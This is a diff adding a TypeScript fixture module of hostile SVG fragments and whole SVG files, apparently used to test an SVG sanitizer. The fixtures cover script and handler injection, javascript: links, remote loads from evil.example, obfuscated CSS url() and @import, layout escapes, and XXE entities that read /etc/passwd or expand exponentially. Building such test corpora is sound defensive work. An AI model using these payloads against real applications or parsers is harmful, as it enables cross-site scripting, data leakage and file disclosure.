@@ -1,0 +1,153 @@
+/** Fragments of SVG that try to run, load or leave their cell, by what they try. Each is placed into a drawing. */
+export const HOSTILE: Record<string, readonly string[]> = {
+  scripts: [
+    '<script>alert(1)</script>',
+    '<script href="https://evil.example/x.js"/>',
+    '<script xlink:href="data:text/javascript,alert(1)"/>',
+    '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
+    '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
+    '<SCRIPT>alert(1)</SCRIPT>',
+    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
+    '<g><title><![CDATA[</title><script>alert(1)</script>]]></title></g>',
+    '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
+    '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>alert(1)&lt;/script>"/>',
+    '<object xmlns="http://www.w3.org/1999/xhtml" data="https://evil.example/"/>',
+  ],
+  handlers: [
+    '<rect width="9" height="9" onload="alert(1)" onclick="alert(1)"/>',
+    '<rect width="9" height="9" ONLOAD="alert(1)" onfocusin="alert(1)" tabindex="1"/>',
+    '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
+    '<set attributeName="onmouseover" to="alert(1)"/>',
+    '<animate attributeName="onload" values="alert(1);alert(2)" dur="1s"/>',
+    '<image href="x:x" onerror="alert(1)" width="9" height="9"/>',
+    '<g ev:onload="alert(1)" xmlns:ev="http://www.w3.org/2001/xml-events"><rect width="9" height="9"/></g>',
+  ],
+  links: [
+    '<a href="javascript:alert(1)"><rect width="100" height="100"/></a>',
+    '<a xlink:href="java&#x09;script&#58;alert(1)"><rect width="100" height="100"/></a>',
+    '<a xlink:href=" JaVaScRiPt:alert(1)"><rect width="100" height="100"/></a>',
+    '<a href="&#1;javascript:alert(1)"><rect width="9" height="9"/></a>',
+    '<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><rect width="9" height="9"/></a>',
+    '<a href="https://evil.example/" target="_blank" ping="https://evil.example/"><rect width="9" height="9"/></a>',
+    '<a id="link" href="#x"><animate attributeName="href" values="javascript:alert(1)" dur="1s"/><rect width="9" height="9"/></a>',
+    '<a><set attributeName="xlink:href" to="javascript:alert(1)"/><rect width="9" height="9"/></a>',
+    '<a><animate attributeName="xlink:href" from="#a" to="java&#x0a;script:alert(1)" dur="1s"/><rect width="9" height="9"/></a>',
+  ],
+  files: [
+    '<image href="https://evil.example/a.png" width="9" height="9"/>',
+    '<image xlink:href="//evil.example/a.png" width="9" height="9"/>',
+    '<image href="data:image/svg+xml,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot;>&lt;script>alert(1)&lt;/script>&lt;/svg>" width="9" height="9"/>',
+    '<image href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiPjxyZWN0IHdpZHRoPSI5IiBoZWlnaHQ9IjkiLz48L3N2Zz4=" width="9" height="9"/>',
+    '<image href="data:text/html,&lt;script>alert(1)&lt;/script>" width="9" height="9"/>',
+    '<feImage href="https://evil.example/a.png"/>',
+    '<filter id="f"><feImage xlink:href="https://evil.example/a.svg#x"/></filter><rect filter="url(#f)" width="9" height="9"/>',
+    '<use href="https://evil.example/a.svg#x"/>',
+    '<use xlink:href="data:image/svg+xml,&lt;svg id=&quot;x&quot; xmlns=&quot;http://www.w3.org/2000/svg&quot;>&lt;script>alert(1)&lt;/script>&lt;/svg>#x"/>',
+    '<use href="other.svg#x"/>',
+    '<image xml:base="https://evil.example/" href="a.png" width="9" height="9"/>',
+    '<textPath href="https://evil.example/a.svg#p">x</textPath>',
+    '<linearGradient id="l" href="https://evil.example/a.svg#l"/><rect fill="url(#l)" width="9" height="9"/>',
+    '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/a.png"/></body></foreignObject>',
+    '<animate attributeName="href" values="https://evil.example/a.png" dur="1s"/>',
+    '<image width="9" height="9"><set attributeName="href" to="https://evil.example/a.png"/></image>',
+    '<mpath href="https://evil.example/a.svg#p"/>',
+    '<cursor href="https://evil.example/a.cur"/>',
+    '<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/a.mp4" autoplay=""/>',
+    '<font-face-uri href="https://evil.example/a.woff"/>',
+    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/a.css"/>',
+  ],
+  styles: [
+    '<style>@import "https://evil.example/a.css"; rect { fill: red }</style>',
+    '<style>@import url(//evil.example/a.css) screen;</style>',
+    '<style>@\\69mport "https://evil.example/a.css";</style>',
+    '<style>@font-face { font-family: x; src: url(https://evil.example/a.woff2) } text { font-family: x }</style>',
+    '<style>rect { fill: url(https://evil.example/a.svg#x) }</style>',
+    '<style>rect { fill: u\\72l(https://evil.example/a.svg#x) }</style>',
+    '<style>rect { fill: \\75 rl("https://evil.example/a.svg#x") }</style>',
+    '<style>rect { background: image-set("https://evil.example/a.png" 1x) }</style>',
+    '<style>rect { --a: url(https://evil.example/a.png); fill: var(--a) }</style>',
+    '<style>/* */ rect { mask: url("https://evil.example/a.svg#\\"x") } </style>',
+    '<style>rect { cursor: url(https://evil.example/a.cur), auto; behavior: url(x.htc); -moz-binding: url(x.xml#y) }</style>',
+    '<style>a { } } @import url(https://evil.example/b.css); rect { content: url(https://evil.example/a.png) }</style>',
+    '<style>rect { width: expression(alert(1)) }</style>',
+    '<style>@media screen { @import "https://evil.example/a.css"; rect:hover { filter: url(https://evil.example/a.svg#f) } }</style>',
+    '<style>@namespace x "https://evil.example/"; x|rect { fill: src("https://evil.example/a.png") }</style>',
+    '<rect width="9" height="9" style="fill:url(https://evil.example/a.svg#x)"/>',
+    '<rect width="9" height="9" style="f\\69ll:\\000075rl( \'//evil.example/a.svg#x\' )"/>',
+    '<rect width="9" height="9" fill="url(https://evil.example/a.svg#x) red"/>',
+    '<rect width="9" height="9" filter="url(&quot;https://evil.example/a.svg#f&quot;)" marker-end="url(//evil.example/#m)"/>',
+    '<rect width="9" height="9" fill="ur\\6c(https://evil.example/a.svg#x)" cursor="url(https://evil.example/x.cur),auto"/>',
+    '<set attributeName="fill" to="url(https://evil.example/a.svg#x)"/>',
+    '<animate attributeName="style" values="fill:url(https://evil.example/a.svg#x)" dur="1s"/>',
+    '<style xmlns="http://www.w3.org/1999/xhtml">@import "https://evil.example/a.css";</style>',
+    '<style>rect { fill: red; /* } @import "https://evil.example/a.css"; </style>',
+    '<style>rect { fill: url( https://evil.example/a b ) }</style>',
+    '<style>@supports (display: block) { rect { fill: -webkit-image-set(url(https://evil.example/a.png) 1x) } }</style>',
+  ],
+  escapes: [
+    '<style>rect, svg, g, * { fill: lime !important; display: inline }</style>',
+    '<style>svg { position: fixed; inset: 0; width: 9999px; height: 9999px; overflow: visible }</style>',
+    '<style>:root, :root * { overflow: visible !important; clip-path: none !important }</style>',
+    '<style>#l1, #l2, [id], svg > g { transform: translate(-500px) scale(9); opacity: 0 }</style>',
+    '<style>body, :not(#x), :has(rect) { visibility: hidden !important }</style>',
+    '<svg overflow="visible" style="overflow:visible;position:fixed" x="-500" y="-500" width="9999" height="9999"><rect width="9999" height="9999"/></svg>',
+    '<g transform="translate(-1000 -1000) scale(1000)"><rect width="100" height="100" fill="red"/></g>',
+    '<rect x="-9999" y="-9999" width="99999" height="99999" fill="red" clip="rect(auto)" style="clip-path:none"/>',
+    '<foreignObject width="9999" height="9999" overflow="visible"><div xmlns="http://www.w3.org/1999/xhtml" style="position:fixed;inset:0;background:red"/></foreignObject>',
+    '<use href="#l1" x="300"/><use href="#l2_a"/><rect id="l2" width="9" height="9"/>',
+    '<style>@keyframes a { to { transform: translate(900px) } } * { animation: a 1s forwards }</style>',
+    '<style>@page { size: 1px } @layer a { svg { scale: 9 } } @scope (svg) { rect { fill: red } }</style>',
+    '<text font-size="9999" x="-999" y="999" style="writing-mode:tb">█████</text>',
+    '<rect width="9" height="9" filter="url(#big)"/><filter id="big" x="-99" y="-99" width="999" height="999"><feFlood flood-color="red"/></filter>',
+    '<set href="#l1" attributeName="x" to="900"/><animate xlink:href="#l2" attributeName="width" values="9;999" dur="1s"/>',
+    '<set begin="l1.click" attributeName="overflow" to="visible"/>',
+    '<style>svg svg, svg>svg, svg:nth-child(n) { overflow: visible; width: 200vw }</style>',
+    '<symbol id="s" overflow="visible" viewBox="0 0 1 1"><rect x="-99" y="-99" width="999" height="999" fill="red"/></symbol><use href="#s" width="100" height="100"/>',
+    '<marker id="m" overflow="visible" markerWidth="1" markerHeight="1"><rect x="-99" y="-99" width="999" height="999"/></marker><path d="M0 0L9 9" marker-end="url(#m)"/>',
+    '<set attributeName="viewBox" to="0 0 1 1"/><set attributeName="overflow" to="visible"/>',
+  ],
+  markup: [
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '<text><![CDATA[]]]]><![CDATA[><script>alert(1)</script>]]></text>',
+    '<!-- --><?xml-stylesheet href="https://evil.example/a.css"?><!-- <script>-->',
+    '<?php alert(1) ?><text>&lt;script>alert(1)&lt;/script></text>',
+    '<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>',
+    '<desc>"/&gt;&lt;script&gt;alert(1)&lt;/script&gt;</desc><title>--&gt;]]&gt;</title>',
+    '<g id="&quot;&gt;&lt;script&gt;" class="a&#10;b&#0009;\'"><rect width="9" height="9"/></g>',
+    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><script>alert(1)</script></mtext></math>',
+    `${'<g>'.repeat(100)}<rect width="9" height="9"/>${'</g>'.repeat(100)}`,
+    '<g id="a"><use href="#b"/><use href="#b"/></g><g id="b"><use href="#c"/><use href="#c"/></g><g id="c"><use href="#a"/></g>',
+  ],
+};
+
+const START = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+const SHAPE = '<rect id="a" class="b" width="50" height="50" fill="green"/>';
+
+/** Whole files: what a fragment inside of a drawing can't try. */
+export const HOSTILE_FILES: readonly string[] = [
+  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${START} viewBox="0 0 9 9"><text>&x;</text></svg>`,
+  `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${START} viewBox="0 0 9 9">${SHAPE}</svg>`,
+  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${START} viewBox="0 0 9 9"><text>&c;</text></svg>`,
+  `<!DOCTYPE svg [<!ENTITY s "&#60;script>alert(1)&#60;/script>">]>${START} viewBox="0 0 9 9">&s;${SHAPE}</svg>`,
+  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${START} viewBox="0 0 9 9">${SHAPE}</svg>`,
+  `<?xml-stylesheet type="text/css" href="https://evil.example/a.css"?>${START} viewBox="0 0 9 9">${SHAPE}</svg>`,
+  `${START} viewBox="0 0 1e308 1e308">${SHAPE}</svg>`,
+  `${START} viewBox="-1e9 -1e9 1e-9 1e-9" width="1e9" height="1">${SHAPE}</svg>`,
+  `${START} viewBox="0 0 9 9" onload="alert(1)" style="overflow:visible;position:fixed;background:url(https://evil.example/a.png)" overflow="visible">${SHAPE}</svg>`,
+  `${START} width="100%" height="100%" preserveAspectRatio="none" x="-500" transform="scale(9)">${SHAPE}</svg>`,
+  `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
+  `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>alert(1)</s:script><s:rect width="9" height="9"/></s:svg>`,
+];
+
+/** Returns a drawing that contains a fragment beside a shape. */
+export function drawingWith(fragment: string, viewBox = '0 0 100 100'): string {
+  return `${START} viewBox="${viewBox}">${SHAPE}${fragment}</svg>`;
+}
+
+/** Returns every hostile drawing with what it tries. */
+export function hostileDrawings(): { kind: string; source: string }[] {
+  const fragments = Object.entries(HOSTILE).flatMap(([kind, list]) =>
+    list.map((fragment) => ({ kind, source: drawingWith(fragment) })),
+  );
+  return [...fragments, ...HOSTILE_FILES.map((source) => ({ kind: 'files', source }))];
+}
